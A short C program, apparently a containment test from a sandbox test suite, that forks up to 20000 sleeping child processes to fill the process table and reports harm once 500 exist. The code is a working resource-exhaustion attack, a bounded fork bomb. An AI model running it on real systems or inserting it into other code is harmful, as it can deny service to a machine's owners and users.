/* Fills the process table with sleepers. */
#include "attack.h"

int main(void)
{
    for (int count = 0; count < 20000; count++) {
        pid_t child = fork();
        if (child == 0) {
            for (;;) {
                pause();
            }
        }
        if (child < 0) {
            return tried();
        }
        if (count == 500) {
            HARM("500 processes at a time");
        }
    }
    return tried();
}
